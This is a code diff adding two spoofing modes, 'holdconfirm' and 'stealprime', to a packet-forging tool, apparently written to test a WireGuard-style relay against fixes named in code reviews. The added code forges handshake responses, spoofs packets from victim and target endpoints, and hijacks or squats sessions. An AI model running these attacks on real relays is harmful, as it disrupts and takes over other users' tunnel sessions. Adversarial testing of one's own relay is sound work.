@@ -42,6 +42,19 @@
  * index is the initiation's own (pass 6, G1: the index a real response then
  * needs looks taken).
  *
+ *   wgr-forge holdconfirm ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
+ *                         VICTIM_ADDR VICTIM_PORT TARGET_ADDR TARGET_PORT [PUB_OTHER...]
+ *
+ * hold, and every forged answer to a real initiation is confirmed: the first
+ * data on it, spoofed "from" the initiator's endpoint (VICTIM's for an
+ * initiation whose mac1 names TARGET, TARGET's for one naming VICTIM). Where a
+ * confirmation cleared a source's failing tries, the squatted pair never
+ * reached discovery on failure (a review of eb9c2b4's fix for R3-F1). With
+ * PUB_OTHER keys (up to 8), it then also spoofs "from" the initiator one
+ * initiation (without mac2) for each: where those pushed the initiator's
+ * failing tries out of the relay's memory of its recent targets, that kept it
+ * from discovery on failure too.
+ *
  *   wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2
  *
  * Squat, then corroborate: hold with BAIT, TARGET and VICTIM (an offline peer,
@@ -104,6 +117,16 @@
  * responses naming V spoofed "from" Q: where the relay sent the same initiation
  * to Q too, Q's endpoint has then given all the answers it may, and Q's own is
  * refused (review of 8ae0eb7, M1).
+ *
+ *   wgr-forge stealprime ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS [ANSWERS]
+ *
+ * stealforge, and Z becomes a discovery candidate (an initiation for V with the
+ * relay's mac2 every 10 s, on the cookie the relay sent Z), while the spoofer
+ * primes failure: an initiation for Q spoofed "from" V every 5 s, until V's own
+ * first try reaches Z along the route. Where such tries counted, V's retry 5 s
+ * later was failing and went to the candidates too, Z among them (review of
+ * eb9c2b4, R3-F1). The sessions it answers are left unconfirmed and unheld: a
+ * confirmation "from" V would end V's failing run, and hide the flaw.
  *
  *   wgr-forge fill ADDR PORT SECONDS PPS BPORT NPORTS PUB_TARGET PUB_NAME...
  *
@@ -433,6 +456,19 @@ static void hsock_initiate(struct hsock *hs, const uint8_t *pub, uint32_t sender
 	send(hs->fd, msg, sizeof(msg), 0);
 }
 
+struct spoofer;
+static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen);
+
+/* Does @msg, an initiation, carry a valid mac1 for @pub? */
+static bool initiation_for(const uint8_t *msg, const uint8_t *pub)
+{
+	uint8_t copy[148];
+
+	memcpy(copy, msg, sizeof(copy));
+	set_mac1(copy, 116, pub);
+	return !memcmp(copy + 116, msg + 116, 16);
+}
+
 /*
  * hold, and squat: with @keys2 (BAIT2, TARGET2), once a staging has passed (or a
  * third of the time is up) the next ones use BAIT2 and TARGET2 with the same
@@ -440,20 +476,24 @@ static void hsock_initiate(struct hsock *hs, const uint8_t *pub, uint32_t sender
  * TARGET2 as VICTIM.
  */
 static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, char **keys,
-		char **keys2, bool self_index)
+		char **keys2, bool self_index, struct spoofer *from_victim,
+		struct spoofer *from_target, char **others, int n_others)
 {
 	uint8_t k[3][32], k2[2][32], msg[1600];	/* bait, target, victim */
 	struct held held[HOLD_MAX];
 	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
 	unsigned int n_held = 0, next_held = 0;
 	long stages = 0, staged = 0, copies = 0, answered = 0, data = 0, fwd_data = 0;
-	long cookies = 0, with_mac2 = 0;
+	long cookies = 0, with_mac2 = 0, confirms = 0, evictions = 0;
+	uint8_t other[8][32];
 	uint32_t s_index = 0, r_index = 0;
 	double start = now_s(), next_stage = start, next_data = start + 5, t_target = 0;
 	int phase = 0;	/* 0 idle, 1 bait sent, 2 target sent, 3 responded */
 
-	if (!parse_keys(k, keys, 3) || (keys2 && !parse_keys(k2, keys2, 2))) {
-		fprintf(stderr, "wgr-forge: hold needs three base64 public keys, squat five\n");
+	if (!parse_keys(k, keys, 3) || (keys2 && !parse_keys(k2, keys2, 2)) ||
+	    n_others > 8 || (n_others && !parse_keys(other, others, n_others))) {
+		fprintf(stderr, "wgr-forge: hold needs three base64 public keys, squat five, "
+				"holdconfirm up to eight more\n");
 		return 2;
 	}
 	hs[0].fd = stage_socket(to, len);
@@ -518,15 +558,42 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 					continue;
 				}
 				/* A real peer's initiation: answer in every name. */
+				struct spoofer *from = NULL;
+				uint32_t answers[3];
+
+				if (from_victim && initiation_for(msg, k[1]))
+					from = from_victim;
+				else if (from_target && initiation_for(msg, k[2]))
+					from = from_target;
 				for (int j = 0; j < 3; j++) {
-					make_response(msg, sender, k[j]);
+					answers[j] = make_response(msg, sender, k[j]);
 					if (self_index) {
 						/* Its own sender index is the initiation's. */
+						answers[j] = sender;
 						put_le32(msg + 4, sender);
 						set_mac1(msg, 60, k[j]);
 					}
 					if (send(fd, msg, 92, 0) >= 0)
 						answered++;
+				}
+				/* And confirm them in the initiator's name, once passed on. */
+				for (int j = 0; from && j < 3; j++) {
+					if (!j)
+						usleep(100000);
+					make_data(msg, answers[j], 0);
+					if (!spoofer_send(from, msg, 32))
+						confirms++;
+				}
+				/* Then push its tries to its partner out, if that works. */
+				for (int j = 0; from && j < n_others; j++) {
+					uint32_t idx;
+
+					fill_random(&idx, sizeof(idx));
+					make("initiation", msg, other[j]);
+					put_le32(msg + 4, idx);
+					set_mac1(msg, 116, other[j]);
+					if (!spoofer_send(from, msg, 148))
+						evictions++;
 				}
 			} else if (msg[0] == 3 && n == 64 && hs[i].last_pub &&
 				   get_le32(msg + 4) == hs[i].last_sender) {
@@ -555,6 +622,9 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 	       "initiations with mac2; %ld initiation copies received, %ld forged responses "
 	       "to them; %ld data sent on held indices, %ld data received\n",
 	       stages, staged, cookies, with_mac2, copies, answered, data, fwd_data);
+	if (from_victim)
+		printf("confirm: %ld forged answers confirmed in their initiator's name, %ld "
+		       "initiations for others spoofed after them\n", confirms, evictions);
 	return 0;
 }
 
@@ -762,17 +832,18 @@ static int spoofstage(int argc, char **argv)
 }
 
 /* wgr-forge steal: see the top of this file. */
-enum steal_kind { STEAL_ROAM, STEAL_BACK, STEAL_FORGE };
+enum steal_kind { STEAL_ROAM, STEAL_BACK, STEAL_FORGE, STEAL_PRIME };
 
 static int steal(int argc, char **argv, enum steal_kind kind)
 {
-	uint32_t held[HOLD_MAX], s_index, r_index;
+	uint32_t held[HOLD_MAX], s_index, r_index, prime_index = 0;
 	uint64_t counter = 1u << 20;
 	struct spoofer from_v, from_q;
 	struct sockaddr_storage to;
 	uint8_t q[32], v[32], msg[1600];
-	long seconds, reached = 0, n_held = 0;
-	double start = now_s(), next;
+	long seconds, reached = 0, n_held = 0, primes = 0, mac2 = 0;
+	double start = now_s(), next, next_prime, next_candidate;
+	struct hsock zs = {};
 	long answers = 1;
 	socklen_t len;
 	int z;
@@ -806,11 +877,30 @@ static int steal(int argc, char **argv, enum steal_kind kind)
 		return 1;
 	usleep(200000);
 	held[n_held++] = s_index;
-	next = now_s();
+	next = next_prime = next_candidate = now_s();
+	zs.fd = z;
 	while (now_s() - start < seconds) {
 		struct pollfd pfd = { .fd = z, .events = POLLIN };
 		ssize_t n;
 
+		if (kind == STEAL_PRIME && now_s() >= next_candidate) {
+			/* For V, so that Z may be sent copies of initiations for Q. */
+			fill_random(&s_index, sizeof(s_index));
+			hsock_initiate(&zs, v, s_index, &mac2);
+			/* At once again once the cookie is in, then every 10 s. */
+			next_candidate = now_s() + (zs.cookie_time ? 10 : 1);
+		}
+		if (kind == STEAL_PRIME && !reached && now_s() >= next_prime) {
+			/* "From" V, for Q: it follows the route to Z, and counted as V's. */
+			fill_random(&prime_index, sizeof(prime_index));
+			make("initiation", msg, q);
+			put_le32(msg + 4, prime_index);
+			set_mac1(msg, 116, q);
+			if (spoofer_send(&from_v, msg, 148))
+				return 1;
+			primes++;
+			next_prime += 5;
+		}
 		if (now_s() >= next) {
 			/*
 			 * Q's side of every session it holds, from Z (the first one
@@ -828,12 +918,19 @@ static int steal(int argc, char **argv, enum steal_kind kind)
 		if (poll(&pfd, 1, 200) <= 0)
 			continue;
 		n = recv(z, msg, sizeof(msg), MSG_DONTWAIT);
-		if (n != 148 || msg[0] != 1)
+		if (n == 64 && msg[0] == 3 && zs.last_pub && get_le32(msg + 4) == zs.last_sender) {
+			/* The relay's cookie for Z: its key is V's public key. */
+			cookie_open(zs.cookie, msg, zs.last_pub);
+			zs.cookie_time = now_s();
+			next_candidate = now_s();
+			continue;
+		}
+		if (n != 148 || msg[0] != 1 || (primes && get_le32(msg + 4) == prime_index))
 			continue;
 		reached++;
 		s_index = get_le32(msg + 4);
 		/* In Q's name, at once: the answers Q's endpoint may give are spent. */
-		for (long i = 0; kind == STEAL_FORGE && i < 2; i++) {
+		for (long i = 0; (kind == STEAL_FORGE || kind == STEAL_PRIME) && i < 2; i++) {
 			make_response(msg, s_index, v);
 			if (spoofer_send(&from_q, msg, 92))
 				return 1;
@@ -842,15 +939,31 @@ static int steal(int argc, char **argv, enum steal_kind kind)
 			r_index = make_response(msg, s_index, v);
 			send(z, msg, 92, 0);
 		}
+		/*
+		 * Priming leaves the new session unconfirmed, and unheld: a
+		 * confirmation "from" V would end V's run of failing tries (and
+		 * Z's candidacy), and the old rule would look as if it held.
+		 */
+		if (kind == STEAL_PRIME)
+			continue;
+		if (n_held < HOLD_MAX)
+			held[n_held++] = s_index;
 		usleep(100000);
 		make_data(msg, r_index, 0);
 		if (spoofer_send(&from_v, msg, 32))
 			return 1;
-		if (n_held < HOLD_MAX)
-			held[n_held++] = s_index;
+		/*
+		 * That confirmation (V's at Z) ended Z's candidacy for V: ask
+		 * again, once the relay has it.
+		 */
+		usleep(50000);
+		next_candidate = now_s();
 	}
 	printf("steal: %ld initiations reached the spoofer's socket, %ld sessions held\n",
 	       reached, n_held);
+	if (kind == STEAL_PRIME)
+		printf("prime: %ld initiations spoofed from V, %ld for V from Z with mac2\n",
+		       primes, mac2);
 	return 0;
 }
 
@@ -1174,6 +1287,8 @@ int main(int argc, char *argv[])
 		return steal(argc, argv, STEAL_BACK);
 	if (argc >= 2 && !strcmp(argv[1], "stealforge"))
 		return steal(argc, argv, STEAL_FORGE);
+	if (argc >= 2 && !strcmp(argv[1], "stealprime"))
+		return steal(argc, argv, STEAL_PRIME);
 	if (argc >= 2 && (!strcmp(argv[1], "hold") || !strcmp(argv[1], "holdself"))) {
 		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
 
@@ -1182,7 +1297,24 @@ int main(int argc, char *argv[])
 					"PUB_BAIT PUB_TARGET PUB_VICTIM\n");
 			return 2;
 		}
-		return hold(&ss, sslen, secs, argv + 5, NULL, !strcmp(argv[1], "holdself"));
+		return hold(&ss, sslen, secs, argv + 5, NULL, !strcmp(argv[1], "holdself"),
+			    NULL, NULL, NULL, 0);
+	}
+	if (argc >= 2 && !strcmp(argv[1], "holdconfirm")) {
+		long secs = argc >= 12 && argc <= 20 ? strtol(argv[4], NULL, 10) : 0;
+		struct spoofer from_victim, from_target;
+
+		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
+			fprintf(stderr, "usage: wgr-forge holdconfirm ADDR PORT SECONDS(1..3600) "
+					"PUB_BAIT PUB_TARGET PUB_VICTIM VICTIM_ADDR VICTIM_PORT "
+					"TARGET_ADDR TARGET_PORT [PUB_OTHER...(0..8)]\n");
+			return 2;
+		}
+		if (spoofer_open(&from_victim, argv[8], argv[9], argv[2], argv[3]) ||
+		    spoofer_open(&from_target, argv[10], argv[11], argv[2], argv[3]))
+			return 1;
+		return hold(&ss, sslen, secs, argv + 5, NULL, false, &from_victim, &from_target,
+			    argv + 12, argc - 12);
 	}
 	if (argc >= 2 && !strcmp(argv[1], "squat")) {
 		long secs = argc == 10 ? strtol(argv[4], NULL, 10) : 0;
@@ -1192,13 +1324,16 @@ int main(int argc, char *argv[])
 					"PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2\n");
 			return 2;
 		}
-		return hold(&ss, sslen, secs, argv + 5, argv + 8, false);
+		return hold(&ss, sslen, secs, argv + 5, argv + 8, false, NULL, NULL, NULL, 0);
 	}
 	if (argc < 6) {
 		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n"
 				"       wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n"
 				"       wgr-forge hold|holdself ADDR PORT SECONDS PUB_BAIT PUB_TARGET "
 				"PUB_VICTIM\n"
+				"       wgr-forge holdconfirm ADDR PORT SECONDS PUB_BAIT PUB_TARGET "
+				"PUB_VICTIM VICTIM_ADDR VICTIM_PORT TARGET_ADDR TARGET_PORT "
+				"[PUB_OTHER...]\n"
 				"       wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM "
 				"PUB_BAIT2 PUB_TARGET2\n"
 				"       wgr-forge mix ADDR PORT SECONDS PPS PUBKEY NPORTS\n"
